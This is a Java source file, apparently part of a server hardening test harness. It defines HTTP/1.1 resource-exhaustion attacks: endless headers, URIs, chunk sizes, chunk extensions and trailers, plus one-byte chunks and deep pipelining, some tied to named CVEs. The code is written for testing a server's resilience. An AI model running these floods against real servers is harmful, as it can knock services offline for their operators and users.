package io.proa.proving.attack;

import io.proa.proving.attack.Attack.Bounds;
import io.proa.proving.attack.Attack.Side;
import java.util.List;

/// Clients of HTTP/1.1 whose messages do not come to an end.
final class Http1Heads {
    private static final String CHUNKED =
            "POST / HTTP/1.1\r\nHost: o\r\nTransfer-Encoding: chunked\r\n\r\n";

    private Http1Heads() {}

    static List<Attack> all() {
        return List.of(
                endless(
                        "endless_header",
                        "CVE-2019-18801",
                        "GET / HTTP/1.1\r\nHost: o\r\nx-a: ",
                        "y"),
                endless(
                        "many_headers",
                        "huge header counts",
                        "GET / HTTP/1.1\r\nHost: o\r\n",
                        "a: b\r\n"),
                endless("endless_uri", "a request line without an end", "GET /", "y"),
                endless("endless_method", "a method without an end", "", "G"),
                endless("crlf_stream", "empty lines before a request", "", "\r\n"),
                endless("huge_chunk_extensions", "CVE-2024-24791's kin", CHUNKED + "5;", "a=b;"),
                endless("endless_chunk_zeros", "a chunk's size without an end", CHUNKED, "0"),
                endless(
                        "endless_trailers",
                        "trailers without an end",
                        CHUNKED + "0\r\n",
                        "a: b\r\n"),
                oneByteChunks(),
                pipeline());
    }

    private static Attack endless(String name, String after, String first, String again) {
        return Attack.flood(
                name,
                Side.HTTP1,
                after,
                attacker -> {
                    Http1Line line = attacker.http1(attacker.doors().small());
                    line.say(first);
                    String piece = again.repeat(8192 / again.length());
                    while (attacker.goesOn(line)) {
                        line.say(piece);
                    }
                    attacker.await();
                });
    }

    private static Attack oneByteChunks() {
        Attack.Recipe recipe =
                attacker -> {
                    Http1Line line = attacker.http1(attacker.doors().small());
                    line.say(CHUNKED);
                    String piece = "1\r\na\r\n".repeat(1000);
                    while (attacker.goesOn(line)) {
                        line.say(piece);
                    }
                };
        return Attack.harmless(
                "one_byte_chunks",
                Side.HTTP1,
                "CVE-2020-8659",
                new Bounds(1000, 4 << 20, 4),
                "it is a body; what arrives goes on as it is, and one buffer of each connection is all it takes",
                recipe);
    }

    private static Attack pipeline() {
        Attack.Recipe recipe =
                attacker -> {
                    Http1Line line = attacker.deafHttp1(attacker.doors().small());
                    String piece = "GET / HTTP/1.1\r\nHost: o\r\n\r\n".repeat(300);
                    while (attacker.goesOn()) {
                        line.say(piece);
                    }
                };
        return Attack.harmless(
                "deep_pipeline",
                Side.HTTP1,
                "requests without reading an answer",
                new Bounds(400, 4 << 20, 3),
                "the next request is not read before the answer to the last has gone",
                recipe);
    }
}
